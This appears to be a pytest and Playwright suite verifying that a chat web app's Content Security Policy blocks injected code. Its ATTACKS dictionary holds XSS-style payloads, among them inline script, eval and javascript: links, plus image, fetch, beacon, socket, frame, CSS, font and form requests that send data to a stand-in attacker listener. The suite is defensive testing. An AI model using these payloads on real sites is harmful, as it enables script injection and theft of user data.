"""The built page works under its policy, and a script that gets into it can neither run nor call home."""

from collections.abc import Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from uuid import uuid4

import pytest
from playwright.async_api import Page, async_playwright, expect

from tests.doors.house import House
from tests.needs import chromium_path

pytestmark = pytest.mark.needs("chromium")

ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"]
ARGS += ["--disable-background-networking", "--disable-component-update"]

WATCH = """
window.violations = [];
document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective));
"""

# A function: Playwright runs a bare expression by `eval`, which the policy forbids to it as well.
NOTICED = "() => window.violations.length > 0 || window.pwned !== undefined"

# Each ran in a page that somebody got a foothold in; `HOME` is the attacker's listener.
ATTACKS = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.pwned = 1';"
    " document.head.append(s);",
    "eval": "const s = document.createElement('button'); s.setAttribute('onclick', 'window.pwned = 1');"
    " document.body.append(s); s.click();",
    "remote script": "const s = document.createElement('script'); s.src = 'HOME/x.js';"
    " document.head.append(s);",
    "remote image": "new Image().src = 'HOME/leak?' + document.title;",
    "fetch": "fetch('HOME/leak').catch(() => 0);",
    "beacon": "navigator.sendBeacon('HOME/leak', 'x');",
    "socket": "try { new WebSocket('HOME/leak'.replace('http', 'ws')) } catch (e) {}",
    "frame": "const f = document.createElement('iframe'); f.src = 'HOME/leak'; document.body.append(f);",
    # The frame's own document reports; that it was loaded is enough to know that its script had its chance.
    "srcdoc": "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwned = 1<\\/script>';"
    " f.onload = () => window.violations.push('loaded'); document.body.append(f);",
    "style": "const s = document.createElement('style'); s.textContent ="
    " 'body { background: url(HOME/leak) } @import url(HOME/leak2)'; document.head.append(s);",
    "font": "document.fonts.add(new FontFace('x', 'url(HOME/leak)')); [...document.fonts].at(-1).load()"
    ".catch(() => 0);",
    "form": "const f = document.createElement('form'); f.action = 'HOME/leak'; f.target = '_blank';"
    " document.body.append(f); f.submit();",
    "base": "const b = document.createElement('base'); b.href = 'HOME/'; document.head.append(b);"
    " new Image().src = 'leak';",
    "object": "const o = document.createElement('object'); o.data = 'HOME/leak'; document.body.append(o);",
    "javascript link": "const a = document.createElement('a'); a.href = 'javascript:window.pwned = 1';"
    " document.body.append(a); a.click();",
}


@contextmanager
def listener() -> Generator[tuple[str, list[str]]]:
    """A host of the attacker's, and all that it heard."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: Any) -> None: ...

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()


async def opened(browser: Any, house: House, said: list[str]) -> Page:
    page = await (await browser.new_context()).new_page()
    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    await page.add_init_script(WATCH)
    await page.goto(house.url)
    await expect(page.get_by_role("status").locator("visible=true").first).to_be_attached()
    await page.wait_for_selector("[data-connection=online]", state="attached")
    return page


async def test_the_page_works_under_its_policy(house: House) -> None:
    """A message, its reply, a reload: nothing that the page itself does is refused."""
    said: list[str] = []
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium_path(), args=ARGS)
        page = await opened(browser, house, said)
        box = page.get_by_role("textbox", name="Message")
        await box.fill(f"`{uuid4()}` [n:30 r:200]")
        await box.press("Enter")
        reply = page.locator("article[data-role=assistant][data-status=complete]")
        await expect(reply).to_have_count(1, timeout=20_000)
        await page.reload()
        await expect(reply).to_have_count(1, timeout=20_000)
        assert await page.evaluate("window.violations") == []
        await browser.close()
    assert said == []


async def test_no_attack_runs_or_calls_home(house: House) -> None:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium_path(), args=ARGS)
        page = await opened(browser, house, [])
        with listener() as (home, heard):
            for name, attack in ATTACKS.items():
                await page.evaluate(f"() => {{ {attack.replace('HOME', home)} }}")
                await page.wait_for_function(NOTICED, timeout=5000)
                assert await page.evaluate("window.pwned") is None, name
                await page.evaluate("window.violations = []")
            assert heard == []
        await browser.close()


async def test_strings_are_not_run(house: House) -> None:
    """What Reflex evaluates in the browser stops: toasts and scripts from handlers."""
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium_path(), args=ARGS)
        page = await opened(browser, house, [])
        # From a timer of the page, since the debugger's own calls are above the policy.
        await page.evaluate("setTimeout(() => { try { eval('window.pwned = 1') } catch (e) {} }, 0)")
        await page.wait_for_function(NOTICED)
        assert await page.evaluate("window.pwned") is None
        await browser.close()


async def test_nobody_frames_the_page(house: House) -> None:
    answer = house.server.get("/")
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize(
    "path", ["/", "/c/abc", "/nothing/here/at/all", "/404", "/assets/nothing.js", "/index.html"]
)
async def test_every_page_has_the_policy(house: House, path: str) -> None:
    headers = house.server.get(path).headers
    assert "'sha256-" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
